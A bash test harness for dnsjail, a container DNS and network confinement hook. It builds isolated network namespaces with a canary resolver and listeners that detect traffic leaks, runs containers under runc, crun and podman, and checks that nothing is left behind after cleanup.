# world.sh: the end-to-end test world, sourced by every tests/e2e script and by scripts/demo.sh.
#
# It builds, in network namespaces made for this run only and never linked to the machine's
# real network:
#   - an "internet" namespace where every address is local (AnyIP) with a canary resolver
#     (dnsmasq, answers everything 203.0.113.7, logs every query) and catch-all TCP/UDP/ICMP
#     listeners (canary.py): whatever reaches them is a leak, and canary_saw finds it;
#   - a "host" namespace the runtimes, the hook and its daemons run in;
#   - one namespace per container (or shared), on a bridge to the internet: 192.0.2.N/24 and
#     2001:db8::N/64, gateway 192.0.2.1 / 2001:db8::1; resolv.conf says nameserver 192.0.2.1;
#   - bundles (rootfs + config.json from `runc spec`) with the host's /usr bound read-only, so
#     dig, curl and python3 work inside;
#   - runners for runc, crun and podman with one calling convention (see run_container).
# Everything made is registered for cleanup, which runs once on exit, whatever happens.
# Also: TAP helpers (tap_*), checks of what dnsjail leaves behind (assert_gone), and the
# battery runc.sh, crun.sh and podman.sh share (world_battery_control/_jailed/_disabled).
#
# Conventions: functions return 0/1; names of this run start with $W_ID (djt-PID).

W_E2E_DIR=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
: "${top_srcdir:=$(cd "$W_E2E_DIR/../.." && pwd)}"
: "${top_builddir:=$top_srcdir}"
W_ID=djt-$$
W_TMP=
W_CLEANUP=()
W_NS_COUNT=0
W_CONTAINERS=()   # "runtime id" pairs to delete -f on exit
W_PIDS=()         # background daemons of the world
W_STUB_EXE=       # the stub binary this run's hook execs; identifies our stubs in /proc
W_INET=
W_HOSTNS=
W_HOSTNS_PATH=

# shellcheck source=tests/e2e/tap.sh
. "$W_E2E_DIR/tap.sh"

# ---- prerequisites ------------------------------------------------------------------------
# Skips the whole script unless we are root and have every tool named.
world_require() { # TOOL...
    [ "$(id -u)" -eq 0 ] || tap_skip_all "needs root"
    local tool
    for tool in ip nsenter unshare python3 "$@"; do
        command -v "$tool" >/dev/null 2>&1 || tap_skip_all "missing tool: $tool"
    done
    ip netns list >/dev/null 2>&1 || tap_skip_all "no network namespace support"
}

# Skips unless the build tree has the hook and the stub.
world_require_build() {
    [ -x "$top_builddir/hook/dnsjail-hook" ] || tap_skip_all "not built: $top_builddir/hook/dnsjail-hook"
    [ -x "$top_builddir/dnsstub/dnsjail-dnsstub" ] ||
        tap_skip_all "not built: $top_builddir/dnsstub/dnsjail-dnsstub"
    [ -x "$top_builddir/proxy/dnsjail-proxy" ] ||
        tap_skip_all "not built: $top_builddir/proxy/dnsjail-proxy"
}

# ---- lifecycle of the world ---------------------------------------------------------------
world_init() {
    W_TMP=$(mktemp -d "/tmp/$W_ID.XXXXXX") || tap_bail "mktemp failed"
    # The stub runs as nobody and is exec'd from under here: every level must be traversable.
    chmod 755 "$W_TMP"
    mkdir -p "$W_TMP/log" "$W_TMP/state" "$W_TMP/bundles" "$W_TMP/out" "$W_TMP/runc" \
        "$W_TMP/crun" "$W_TMP/libexec" "$W_TMP/empty-hooks.d"
    chmod 755 "$W_TMP/libexec"
    trap world_cleanup EXIT
    trap 'exit 130' INT
    trap 'exit 143' TERM
}

world_on_cleanup() { W_CLEANUP+=("$*"); }

world_cleanup() {
    local i entry pid
    trap - EXIT
    # Containers first: their poststop hooks still need the world.
    for entry in "${W_CONTAINERS[@]}"; do
        # shellcheck disable=SC2086 # "RUNTIME ID"
        runtime_delete_force $entry >/dev/null 2>&1
    done
    W_CONTAINERS=()
    for pid in $(world_daemons); do
        echo "# cleanup: killing leftover dnsjail daemon pid $pid" >&2
        kill -9 "$pid" 2>/dev/null
    done
    # Idle spares are no leak, but they are this run's processes: none may outlive it.
    world_stop_spares
    # Before W_CLEANUP, which may end the engines' mount namespace a keeper was pinned in.
    world_remove_keeper
    for ((i = ${#W_CLEANUP[@]} - 1; i >= 0; i--)); do
        eval "${W_CLEANUP[$i]}" >/dev/null 2>&1
    done
    W_CLEANUP=()
    for pid in "${W_PIDS[@]}"; do
        kill "$pid" 2>/dev/null && wait "$pid" 2>/dev/null
    done
    W_PIDS=()
    # A namespace of this run that its cleanup missed (a registration lost in a subshell, say)
    # is a leak of the suite's: removed, and the suite fails.
    local ns leaked=0
    for ns in $(ip netns list 2>/dev/null | cut -d' ' -f1); do
        case $ns in "$W_ID" | "$W_ID"-*)
            echo "# cleanup: the suite left network namespace $ns behind" >&2
            ip netns del "$ns" 2>/dev/null
            leaked=1
            ;;
        esac
    done
    if [ -n "$W_TMP" ] && [ -d "$W_TMP" ]; then
        # podman may leave mounts under its storage; never rm across a mount.
        grep -o " ${W_TMP}[^ ]*" /proc/self/mounts | sort -r | while read -r m; do umount -l "$m"; done
        if [ -n "${W_KEEP:-}" ]; then
            echo "# W_KEEP set: left $W_TMP" >&2
        else
            rm -rf "$W_TMP"
        fi
    fi
    W_TMP=
    [ "$leaked" -eq 0 ] || exit 1
}

# Waits up to SECONDS for CMD to succeed (polls every 0.1 s).
wait_until() { # SECONDS CMD ARGS...
    local deadline=$((SECONDS + $1))
    shift
    while ! "$@"; do
        [ "$SECONDS" -lt "$deadline" ] || return 1
        sleep 0.1
    done
}

world_random() { od -An -N6 -tx1 /dev/urandom | tr -d ' \n'; }

# ---- network ------------------------------------------------------------------------------
W_TCP_PORTS=22,80,443,8080,9999
W_UDP_PORTS=123,9999

# The fake internet: namespace, bridge 192.0.2.1/24 2001:db8::1/64, AnyIP, canaries.
world_internet() {
    W_INET=$W_ID-inet
    ip netns add "$W_INET" || return 1
    world_on_cleanup ip netns del "$W_INET"
    local inet=(ip -n "$W_INET")
    # The bridge gets a fixed MAC: otherwise it takes the lowest of its ports', which changes
    # as containers come and go while the host namespace still has the old one cached.
    "${inet[@]}" link set lo up &&
        "${inet[@]}" link add djbr address 02:00:00:00:00:01 type bridge forward_delay 0 &&
        "${inet[@]}" addr add 192.0.2.1/24 dev djbr &&
        "${inet[@]}" addr add 2001:db8::1/64 dev djbr nodad &&
        "${inet[@]}" link set djbr up &&
        "${inet[@]}" route replace local 0.0.0.0/0 dev lo table local &&
        "${inet[@]}" -6 route replace local ::/0 dev lo table local &&
        "${inet[@]}" route replace 192.0.2.0/24 dev djbr table local &&
        "${inet[@]}" -6 route replace 2001:db8::/64 dev djbr table local || return 1

    W_CANARY_DNS_LOG=$W_TMP/canary-dns.log
    W_CANARY_NET_LOG=$W_TMP/canary-net.log
    : >"$W_CANARY_DNS_LOG"
    : >"$W_CANARY_NET_LOG"
    nsenter --net="/run/netns/$W_INET" dnsmasq -k --conf-file=/dev/null --user=root \
        --pid-file="$W_TMP/dnsmasq.pid" --no-resolv --no-hosts --port=53 \
        --address=/#/203.0.113.7 "${W_DNS_ANSWERS[@]}" --log-queries \
        --log-facility="$W_CANARY_DNS_LOG" \
        >"$W_TMP/dnsmasq.out" 2>&1 &
    W_PIDS+=($!)
    nsenter --net="/run/netns/$W_INET" python3 "$W_E2E_DIR/canary.py" "$W_CANARY_NET_LOG" \
        "$W_TCP_PORTS" "$W_UDP_PORTS" >"$W_TMP/canary.out" 2>&1 &
    W_PIDS+=($!)
    wait_until 10 grep -qs '^ready' "$W_TMP/canary.out" || {
        tap_diag_file "$W_TMP/canary.out"
        return 1
    }
    wait_until 10 nsenter --net="/run/netns/$W_INET" \
        dig +time=1 +tries=1 +short @127.0.0.1 canary-selftest.invalid >/dev/null || {
        tap_diag_file "$W_TMP/dnsmasq.out"
        return 1
    }
}

# Other answers of the canary resolver: DOMAIN (and every name below it) resolves to ADDRESS
# instead of 203.0.113.7 (dnsmasq's --address; repeat for several addresses). The resolver
# still logs every query. Call before world_up.
W_DNS_ANSWERS=()
world_dns_answer() { # DOMAIN ADDRESS
    W_DNS_ANSWERS+=("--address=/$1/$2")
}

# A namespace for real servers behind the fake internet, for tests that need a destination
# other than the canary: the internet namespace routes each IPv4 PREFIX there instead of
# answering it itself (so the canary never sees that traffic), and every address of PREFIX is
# local there (AnyIP), so a server binds exactly the addresses it serves. Sets W_SRV_NS to
# the namespace's path. Call after world_up.
W_SRV_COUNT=0
world_servers_ns() { # LABEL PREFIX...
    local name=$W_ID-$1 k net prefix
    shift
    W_SRV_COUNT=$((W_SRV_COUNT + 1))
    k=$W_SRV_COUNT
    # One /30 per server namespace for its link: 198.51.100.252/30, .248/30, ...
    net=$((256 - 4 * k))
    W_SRV_NS=
    ip netns add "$name" || return 1
    world_on_cleanup ip netns del "$name"
    ip link add "djs$k" netns "$W_INET" type veth peer name eth0 netns "$name" || return 1
    local inet=(ip -n "$W_INET") srv=(ip -n "$name")
    "${inet[@]}" addr add "198.51.100.$((net + 1))/30" dev "djs$k" &&
        "${inet[@]}" link set "djs$k" up &&
        "${inet[@]}" route replace "198.51.100.$net/30" dev "djs$k" table local &&
        "${srv[@]}" link set lo up &&
        "${srv[@]}" link set eth0 up &&
        "${srv[@]}" addr add "198.51.100.$((net + 2))/30" dev eth0 &&
        "${srv[@]}" route add default via "198.51.100.$((net + 1))" || return 1
    for prefix in "$@"; do
        "${inet[@]}" route replace "$prefix" via "198.51.100.$((net + 2))" table local &&
            "${srv[@]}" route replace local "$prefix" dev lo table local || return 1
    done
    # The internet forwards between the bridge and the servers (and only there: every other
    # address is local to it).
    nsenter --net="/run/netns/$W_INET" sysctl -qw net.ipv4.ip_forward=1 || return 1
    # shellcheck disable=SC2034 # for the caller
    W_SRV_NS=/run/netns/$name
}

# A web site behind the test internet: httpserve.py answering every GET on IP:80 with BODY, in a
# server namespace of its own (so the canary never sees its traffic). A name leads there with
# world_dns_answer NAME IP before world_up. Call after world_up.
world_site() { # LABEL IP BODY
    world_servers_ns "$1" "$2/32" || return 1
    nsenter --net="$W_SRV_NS" python3 "$W_E2E_DIR/lib/httpserve.py" "$2" 80 "$3" \
        >"$W_TMP/site-$1.out" 2>&1 &
    W_PIDS+=($!)
    wait_until 10 grep -qs '^ready' "$W_TMP/site-$1.out" || {
        tap_diag_file "$W_TMP/site-$1.out"
        return 1
    }
}

# Attaches namespace NAME to the internet's bridge with host number N.
world_attach() { # NSNAME N
    local ns=$1 n=$2 port=djp$2
    ip link add "$port" netns "$W_INET" type veth peer name eth0 netns "$ns" || return 1
    ip -n "$W_INET" link set "$port" master djbr up &&
        ip -n "$ns" link set lo up &&
        ip -n "$ns" link set eth0 up &&
        ip -n "$ns" addr add "192.0.2.$n/24" dev eth0 &&
        ip -n "$ns" addr add "2001:db8::$(printf %x "$n")/64" dev eth0 nodad &&
        ip -n "$ns" route add default via 192.0.2.1 &&
        ip -n "$ns" -6 route add default via 2001:db8::1 || return 1
    # Lets an unprivileged-in-the-container ping socket exist, for the ICMP probe.
    nsenter --net="/run/netns/$ns" sysctl -qw net.ipv4.ping_group_range="0 2147483647"
}

# A namespace for the runtimes, the hook and the daemons ("the host"), on the same bridge.
world_hostns() {
    W_HOSTNS=$W_ID-host
    W_HOSTNS_PATH=/run/netns/$W_HOSTNS
    ip netns add "$W_HOSTNS" || return 1
    world_on_cleanup ip netns del "$W_HOSTNS"
    world_attach "$W_HOSTNS" 254
}

# A new persistent container namespace; sets W_NS to its path. Host numbers 2, 3, ...
# (Not in a $(...) subshell: the cleanup registration and the counter must stick.)
world_ctns() { # LABEL
    W_NS_COUNT=$((W_NS_COUNT + 1))
    local name=$W_ID-$1
    W_NS=
    ip netns add "$name" || return 1
    world_on_cleanup ip netns del "$name"
    world_attach "$name" $((W_NS_COUNT + 1)) || return 1
    W_NS=/run/netns/$name
}

# ---- the canary ---------------------------------------------------------------------------
# Did anything that reached the fake internet carry TOKEN? (DNS query names or socket data)
canary_saw() { grep -qF -- "$1" "$W_CANARY_DNS_LOG" "$W_CANARY_NET_LOG"; }
canary_saw_dns() { grep -qF -- "$1" "$W_CANARY_DNS_LOG"; }
canary_saw_net() { grep -qF -- "$1" "$W_CANARY_NET_LOG"; }
# "The canary saw nothing" only after the canaries have recorded markers sent now, which
# they read after anything sent before: canary.py serves its sockets one selector pass at a
# time (three markers one after the other leave room for a connection accepted in one pass
# and read in the next), dnsmasq answers its queries in order.
canary_settled() {
    local m i inet=(nsenter --net="/run/netns/$W_INET")
    m=settle-$(world_random)
    for i in 1 2 3; do
        "${inet[@]}" bash -c 'printf %s "$1" >"/dev/udp/127.0.0.1/$2"' _ "$m-$i" "${W_UDP_PORTS%%,*}" &&
            wait_until 5 grep -qF -- "$m-$i" "$W_CANARY_NET_LOG" || return 1
    done
    "${inet[@]}" dig +time=2 +tries=2 +short @127.0.0.1 "$m.settle.invalid" >/dev/null &&
        wait_until 5 grep -qF -- "$m.settle.invalid" "$W_CANARY_DNS_LOG"
}
canary_none() { canary_settled && ! canary_saw "$1"; }
canary_none_dns() { canary_settled && ! canary_saw_dns "$1"; }
canary_none_net() { canary_settled && ! canary_saw_net "$1"; }

# ---- dnsjail configuration ----------------------------------------------------------------
# Writes the admin config FILE for the build tree's binaries (default $W_TMP/dnsjail.conf, and
# sets W_CONF to it); LINES ("key = value") add to or replace the test defaults.
world_dnsjail_conf() { # [--file FILE] [LINE...]
    local file=$W_TMP/dnsjail.conf
    if [ "${1:-}" = --file ]; then
        file=$2
        shift 2
    fi
    W_HOOK=${W_HOOK:-$top_builddir/hook/dnsjail-hook}
    W_STATE=$W_TMP/state
    W_LOG=$W_TMP/log/dnsjail.log
    W_CONF=$file
    # Copies of the daemons in one directory (libexec-dir), which the unprivileged daemons can
    # reach whatever the build directory's permissions are.
    if [ -z "$W_STUB_EXE" ]; then
        install -m 755 "$top_builddir/dnsstub/dnsjail-dnsstub" "$W_TMP/libexec/dnsjail-dnsstub" ||
            return 1
        install -m 755 "$top_builddir/proxy/dnsjail-proxy" "$W_TMP/libexec/dnsjail-proxy" ||
            return 1
        W_STUB_EXE=$W_TMP/libexec/dnsjail-dnsstub
    fi
    local defaults=(
        "state-dir = $W_STATE"
        "log-file = $W_LOG"
        "libexec-dir = $(dirname "$W_STUB_EXE")"
        "user = nobody"
        "allow-cap-net-raw = false"
        "allow-cap-net-admin = false"
        "sinkhole-ipv4 = 6.6.6.6"
        "dns-port = 15353"
        # The proxy resolves allowed names through the test world's resolver, never the
        # machine's.
        "upstream-resolvers = 192.0.2.1"
    )
    local line extra key
    {
        echo "# written by tests/e2e/world.sh"
        for line in "${defaults[@]}"; do
            key=${line%% *}
            for extra in "$@"; do
                [ "${extra%% *}" = "$key" ] && continue 2
            done
            echo "$line"
        done
        for extra in "$@"; do echo "$extra"; done
    } >"$file"
}

# ---- bundles ------------------------------------------------------------------------------
world_rootfs() { # DIR
    local r=$1
    mkdir -p "$r"/{usr,etc,tmp,proc,dev,sys,run,root,var/tmp} || return 1
    ln -s usr/bin "$r/bin"
    ln -s usr/lib "$r/lib"
    ln -s usr/lib64 "$r/lib64"
    ln -s usr/sbin "$r/sbin"
    echo "nameserver 192.0.2.1" >"$r/etc/resolv.conf"
    printf 'root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n' >"$r/etc/passwd"
    printf 'root:x:0:\nnogroup:x:65534:\n' >"$r/etc/group"
    printf '127.0.0.1 localhost\n::1 localhost\n' >"$r/etc/hosts"
    printf 'hosts: files dns\n' >"$r/etc/nsswitch.conf"
    [ -d /etc/ssl ] && cp -a /etc/ssl "$r/etc/ssl"
    chmod 1777 "$r/tmp"
}

# Makes bundle $W_TMP/bundles/ID; the options are bundle.py's (see there), then -- ARGS.
# Prints the bundle's path.
world_bundle() { # ID [bundle.py options] [-- ARGS...]
    local id=$1
    shift
    local b=$W_TMP/bundles/$id
    mkdir -p "$b" && world_rootfs "$b/rootfs" >/dev/null || return 1
    (cd "$b" && runc spec) || return 1
    python3 "$W_E2E_DIR/bundle.py" "$b/config.json" \
        --bind "$W_E2E_DIR/probe.py:/probe.py" "$@" || return 1
    echo "$b"
}

# Puts a static /usr/bin/true in BUNDLE's rootfs, for a bundle made with --no-usr: a container
# whose programs are its image's own, as an engine's are, with no directory of the host's
# bound in it (the benches' ROOTFS=own).
world_static_true() { # BUNDLE
    if [ ! -x "$W_TMP/static-true" ]; then
        printf 'int main(void) { return 0; }\n' | cc -O2 -static -x c -o "$W_TMP/static-true" - ||
            return 1
    fi
    mkdir -p "$1/rootfs/usr/bin" && cp "$W_TMP/static-true" "$1/rootfs/usr/bin/true"
}


# ---- runtimes -----------------------------------------------------------------------------
# Every runner leaves RUN_RC, the files $RUN_OUT and $RUN_ERR, and RUN_CID: the id the runtime
# gave the hook (podman's is its own 64-hex id, not the --name).
_run_capture() { # ID CMD...
    local id=$1
    shift
    RUN_CID=$id
    RUN_OUT=$W_TMP/out/$id.out
    RUN_ERR=$W_TMP/out/$id.err
    "$@" </dev/null >"$RUN_OUT" 2>"$RUN_ERR"
    RUN_RC=$?
    return 0
}

# Each runtime command is bounded by a timeout: a hung hook must fail the test, not hang it.
# W_RUN_TIMEOUT (seconds) is shortened where a run must not even wait out a runtime's own hook
# timeout (crun's is 10 s, and crun only warns when a poststop hook times out).
W_RUN_TIMEOUT=${W_RUN_TIMEOUT:-90}
runc_cmd() { timeout -k 5 "$W_RUN_TIMEOUT" nsenter --net="$W_HOSTNS_PATH" runc --root "$W_TMP/runc" "$@"; }

# crun needs a pure cgroup2 view: a private mount namespace with cgroup2 on /sys/fs/cgroup.
crun_cmd() {
    timeout -k 5 "$W_RUN_TIMEOUT" nsenter --net="$W_HOSTNS_PATH" unshare -m sh -c \
        'umount -R /sys/fs/cgroup 2>/dev/null; mount -t cgroup2 none /sys/fs/cgroup && exec crun --root "$0" --cgroup-manager=disabled "$@"' \
        "$W_TMP/crun" "$@"
}

run_runc() { # ID BUNDLE: runc run, in the foreground
    W_CONTAINERS+=("runc $1")
    _run_capture "$1" runc_cmd run --bundle "$2" "$1"
}

run_crun() { # ID BUNDLE
    W_CONTAINERS+=("crun $1")
    _run_capture "$1" crun_cmd run --bundle "$2" "$1"
}

runtime_delete_force() { # RUNTIME ID
    case $1 in
        runc) runc_cmd delete -f "$2" ;;
        crun) crun_cmd delete -f "$2" ;;
        podman) podman_cmd rm -f "$2" ;;
        # Runners defined elsewhere (tests/e2e/lib/engines.sh's docker, containerd).
        *) "delete_force_$1" "$2" ;;
    esac
}

# podman with storage, state and events under this run's directory; the runtime is runc.
podman_cmd() {
    timeout -k 5 120 nsenter --net="$W_HOSTNS_PATH" podman --root "$W_TMP/podman/root" \
        --runroot "$W_TMP/podman/run" --tmpdir "$W_TMP/podman/tmp" --storage-driver vfs \
        --cgroup-manager cgroupfs --events-backend file --runtime runc "$@"
}

# podman run of a rootfs in namespace NSPATH, never on podman's own networks.
run_podman() { # ID NSPATH HOOKSDIR [podman run options] -- CMD...
    local id=$1 ns=$2 hooksdir=$3
    shift 3
    local opts=()
    while [ $# -gt 0 ] && [ "$1" != "--" ]; do
        opts+=("$1")
        shift
    done
    [ "${1:-}" = "--" ] && shift
    local rootfs=$W_TMP/bundles/$id-podman-rootfs
    world_rootfs "$rootfs" || return 1
    mkdir -p "$W_TMP/podman/tmp"
    W_CONTAINERS+=("podman $id")
    local cidfile=$W_TMP/out/$id.cid
    rm -f "$cidfile"
    _run_capture "$id" podman_cmd --hooks-dir "$hooksdir" run --rm --name "$id" --cidfile "$cidfile" \
        --network "ns:$ns" --dns 192.0.2.1 \
        --ulimit nofile=1024:1024 --ulimit nproc=1024:1024 \
        -v /usr:/usr:ro -v "$W_E2E_DIR/probe.py:/probe.py:ro" \
        "${opts[@]}" --rootfs "$rootfs" "$@"
    [ -s "$cidfile" ] && RUN_CID=$(cat "$cidfile")
    return 0
}

# One calling convention for the battery:
#   run_container RUNTIME ID NSPATH JAIL ANNOTATIONS -- CMD...
# JAIL: yes (our hook) or no (no hook at all). ANNOTATIONS: space-separated K=V.
run_container() {
    local runtime=$1 id=$2 ns=$3 jail=$4 annotations=$5
    # Runners defined elsewhere take the same arguments (tests/e2e/lib/engines.sh's containerd).
    if declare -F "run_container_$runtime" >/dev/null; then
        "run_container_$runtime" "$@"
        return
    fi
    shift 5
    [ "${1:-}" = "--" ] && shift
    local a opts=()
    if [ "$runtime" = podman ]; then
        for a in $annotations; do opts+=(--annotation "$a"); done
        local hooksdir=$W_TMP/empty-hooks.d
        [ "$jail" = yes ] && hooksdir=$W_PODMAN_HOOKSDIR
        run_podman "$id" "$ns" "$hooksdir" "${opts[@]}" -- "$@"
        return
    fi
    for a in $annotations; do opts+=(--annotation "$a"); done
    [ "$jail" = yes ] && opts+=(--hook "$W_HOOK" --hook-config "$W_CONF")
    local b
    b=$(world_bundle "$id" --netns "$ns" "${opts[@]}" -- "$@") || return 1
    "run_$runtime" "$id" "$b"
}

# ---- what dnsjail left behind -------------------------------------------------------------
# Pids of the jails' daemons running EXE (by their executable, not their arguments), idle
# spares left out.
daemons_of() {
    local p
    for p in $(world_processes_of "$1"); do is_jail_daemon "$p" && echo "$p"; done
}
# Pids of this run's dnsjail-dnsstub processes serving a jail (found by their executable).
world_stubs() { daemons_of "$W_STUB_EXE"; }
# Pids of this run's daemons serving a jail, both kinds: the proxy is installed beside the stub
# everywhere. An idle spare (lib/daemon/spare.h: "--spare-pool DIR" on its command line) serves
# none: world_spares has those.
world_daemons() {
    local p
    [ -n "$W_STUB_EXE" ] || return 0
    for p in $(world_processes_of "$W_STUB_EXE" "$(dirname "$W_STUB_EXE")/dnsjail-proxy"); do
        is_jail_daemon "$p" && echo "$p"
    done
}
is_spare() { tr '\0' '\n' <"/proc/$1/cmdline" 2>/dev/null | grep -qx -- --spare-pool; }
# A live process (its command line readable) that is not an idle spare.
is_jail_daemon() {
    local args
    args=$(tr '\0' '\n' <"/proc/$1/cmdline" 2>/dev/null) && [ -n "$args" ] &&
        ! grep -qx -- --spare-pool <<<"$args"
}
# The parent pid of each PID, a line each (a jail's daemon served by the pool is a spare's child).
world_ppids() { # PID...
    local p
    for p in "$@"; do awk '/^PPid:/ { print $2 }' "/proc/$p/status"; done
}
# Pids of this run's idle spares (of either kind, or of PROGRAM: dnsjail-dnsstub or -proxy).
world_spares() { # [PROGRAM]
    local p exes
    [ -n "$W_STUB_EXE" ] || return 0
    exes=("$W_STUB_EXE" "$(dirname "$W_STUB_EXE")/dnsjail-proxy")
    case ${1:-} in
    dnsjail-dnsstub) exes=("${exes[0]}") ;;
    dnsjail-proxy) exes=("${exes[1]}") ;;
    esac
    for p in $(world_processes_of "${exes[@]}"); do
        is_spare "$p" && echo "$p"
    done
}
# Stops this run's spare pool: its spares, and its sockets (a next hook makes a new pool).
world_stop_spares() {
    local pid
    for pid in $(world_spares); do kill -9 "$pid" 2>/dev/null; done
    [ -n "$W_STATE" ] && rm -f "$W_STATE"/spares/*.sock
}
# Live processes only: a zombie has no exe link (pid 1 reaps orphans slowly here, and a
# zombie holds nothing). A binary replaced on disk (package upgrade) still counts as itself.
world_processes_of() { # EXE...
    [ -n "$1" ] || return 0
    # One find reads every exe link: a readlink forked per process made each check take
    # seconds on a busy machine, and the checks run in polling loops.
    find /proc/[0-9]*/exe -maxdepth 0 -printf '%l\t%h\n' 2>/dev/null | awk -F'\t' '
        BEGIN { for (i = 1; i < ARGC; i++) want[ARGV[i]]; ARGC = 1 }
        { sub(/ \(deleted\)$/, "", $1) }
        $1 in want { sub("^/proc/", "", $2); print $2 }' "$@"
}
# Pids of this run's daemons (both kinds, or only those of KIND: dnsstub or proxy) started
# for container ID, found by their executable and their --container-id argument.
daemons_for() { # ID [KIND]
    local p exes
    [ -n "$W_STUB_EXE" ] || return 0
    exes=("$W_STUB_EXE" "$(dirname "$W_STUB_EXE")/dnsjail-proxy")
    case ${2:-} in
    dnsstub) exes=("${exes[0]}") ;;
    proxy) exes=("${exes[1]}") ;;
    esac
    for p in $(world_processes_of "${exes[@]}"); do
        tr '\0' '\n' <"/proc/$p/cmdline" 2>/dev/null |
            awk -v id="$1" 'prev == "--container-id" && $0 == id { found = 1 } { prev = $0 }
                END { exit !found }' && echo "$p"
    done
}
stub_for() { daemons_for "$1" dnsstub; }
has_stub_for() { [ -n "$(stub_for "$1")" ]; }
# "No daemon left" always means neither the stub nor the proxy: a leaked proxy is a leak too.
# Every such check goes through these two; without the run's executables known (no
# world_dnsjail_conf yet) they cannot look, and fail.
no_daemon_for() { world_daemons_known && [ -z "$(daemons_for "$1")" ]; }
no_daemons_at_all() { world_daemons_known && [ -z "$(world_daemons)" ]; }
# Both at once, as one command for wait_until and tap_check. (Not `eval 'no_daemon_for "$2"'`:
# eval runs in the caller's caller, where $2 is eval's own argument, the check's text, which
# names no container, so the check could never fail.)
no_daemon_left_for() { no_daemon_for "$1" && no_daemons_at_all; }
world_daemons_known() {
    [ -n "$W_STUB_EXE" ] || { echo "no daemon executable known: world_dnsjail_conf first" >&2; return 1; }
}
# The hook hands its daemons descriptors on the command line and every setting in the
# configuration memfd (lib/daemon/daemonconf.h), so /proc/PID/cmdline, readable by everyone, shows no
# setting: each of the container's two daemons has --config-fd and, beside the container id,
# only options that name a descriptor.
daemon_argv_descriptors_only() { # ID
    local pid word n=0
    for pid in $(daemons_for "$1"); do
        n=$((n + 1))
        tr '\0' '\n' <"/proc/$pid/cmdline" | grep -qx -- --config-fd || return 1
        while read -r word; do
            case $word in
            --container-id | --inherit-udp | --inherit-tcp | --inherit-http | --inherit-tls | \
                --inherit-virtual | --watch-pidfd | --control-fd | --log-fd | --system-log-fd | \
                --ready-fd | --metrics-fd | --policy-fd | --virtual-map-fd | --config-fd) ;;
            --*) return 1 ;;
            esac
        done < <(tr '\0' '\n' <"/proc/$pid/cmdline")
    done
    [ "$n" = 2 ]
}
# No per-container record and no namespace state left (for a namespace no one else uses).
state_clean_for() { [ ! -e "$W_STATE/containers/$1" ]; }
state_gone_for() { state_clean_for "$1" && state_empty; }
state_empty() {
    [ -z "$(find "$W_STATE/containers" "$W_STATE/netns" -mindepth 1 2>/dev/null)" ]
}
nft_table_in() { nsenter --net="$1" nft list table inet dnsjail >/dev/null 2>&1; }
# The hook must not leave namespace references (bind mounts) behind under its state dir: in
# this mount namespace, and in those the runtimes run in (W_MOUNT_NAMESPACES: nsfs paths, e.g.
# tests/e2e/lib/engines.sh's private one, where the hooks of Docker's and containerd's
# containers run).
W_MOUNT_NAMESPACES=()
# "$W_STATE/": the keeper is pinned beside the state dir ($W_STATE-keeper), on purpose.
no_mounts_under_state() {
    local mnt
    grep -q " $W_STATE/" /proc/self/mountinfo && return 1
    for mnt in "${W_MOUNT_NAMESPACES[@]}"; do
        nsenter --mount="$mnt" cat /proc/self/mountinfo | grep -q " $W_STATE/" && return 1
    done
    return 0
}
# The keeper of the run's state dir (lib/jail/keeper.h): its pin, unmounted (in this mount
# namespace and in the runtimes' ones, W_MOUNT_NAMESPACES) and removed, so that no suite
# leaves one behind; its namespace ends with the last mount.
world_keeper_pin() { echo "$W_STATE-keeper/netns"; }
world_remove_keeper() {
    local pin mnt
    [ -n "$W_STATE" ] || return 0
    pin=$(world_keeper_pin)
    for mnt in "${W_MOUNT_NAMESPACES[@]}"; do
        nsenter --mount="$mnt" umount "$pin" >/dev/null 2>&1
    done
    while grep -q " $pin " /proc/self/mountinfo; do umount "$pin" || break; done
    rm -rf "$W_STATE-keeper"
}
no_nft_table_in() { ! nft_table_in "$1"; }
# The hook's log has a dns_query line for QNAME from container ID.
log_has_query() { # ID QNAME
    /usr/bin/python3 "$W_E2E_DIR/lib/logquery.py" query "$W_LOG" "$1" "$2"
}
# The hook's log has an event EVENT (e.g. jail_refused) for container ID.
log_has_event() { /usr/bin/python3 "$W_E2E_DIR/lib/logquery.py" event "$W_LOG" "$1" "$2" 2>/dev/null; } # EVENT ID
# After a container went: no stub for it, no state for it, no table in NSPATH (if given).
assert_gone() { # DESCRIPTION ID [NSPATH]
    # By its arguments, and by its executable: this run has no other jailed container alive.
    tap_check "$1: no dnsjail daemon left" wait_until 5 no_daemon_left_for "$2" ||
        tap_diag "left: $(world_daemons)"
    tap_check "$1: no state left for the container" state_clean_for "$2"
    tap_check "$1: no namespace reference mounted under the state dir" no_mounts_under_state
    if [ -n "${3:-}" ]; then
        tap_check "$1: no namespace state left" state_empty
        tap_check "$1: table inet dnsjail removed from the namespace" no_nft_table_in "$3"
    fi
}

# ---- descriptors: nothing of ours holds a runtime's ---------------------------------------
# A runtime that runs a container in the foreground waits for the EOF of the pipes it was given
# and for its own children: a daemon, spare or closer of ours that held one of its pipes would
# keep it (and whoever reads its output) waiting. These compare open files by what
# /proc/PID/fd links to: the same pipe:[N] or socket:[N] in two processes is one open pipe or
# socket.
# The pipes and sockets process PID holds, one per line, sorted. (Anonymous inodes are left
# out: their links, e.g. anon_inode:[eventpoll], name a kind, not one open file.)
fd_files_of() { # PID
    find "/proc/$1/fd" -mindepth 1 -maxdepth 1 -printf '%l\n' 2>/dev/null |
        grep -E '^(pipe|socket):\[[0-9]+\]$' | sort -u
}
# The runtime process that runs container process CPID in the foreground: its parent (runc
# and crun fork the container's init themselves). crun runs from a sealed copy of itself, so
# the executable's name is no way to find it.
runtime_pid_of() { # CPID
    awk '{ sub(/^.*\) /, ""); print $2 }' "/proc/$1/stat" 2>/dev/null
}
# Prints the pids among PIDS that hold any pipe or socket process RUNTIME_PID
# holds; fails (prints nothing) when none does.
holders_among() { # RUNTIME_PID PIDS...
    local theirs p found=1
    theirs=$(for p in $1; do fd_files_of "$p"; done | sort -u)
    shift
    [ -n "$theirs" ] || return 1
    for p in "$@"; do
        if [ -n "$(comm -12 <(echo "$theirs") <(fd_files_of "$p"))" ]; then
            echo "$p"
            found=0
        fi
    done
    return $found
}
# This run's dnsjail processes: the daemons and spares, and anything running the hook's binary
# (the hook forks a closer at poststop, lib/jail/nft.c).
world_dnsjail_processes() {
    world_daemons_known || return 1
    world_processes_of "$W_STUB_EXE" "$(dirname "$W_STUB_EXE")/dnsjail-proxy" \
        "$(readlink -f "$W_HOOK")"
}
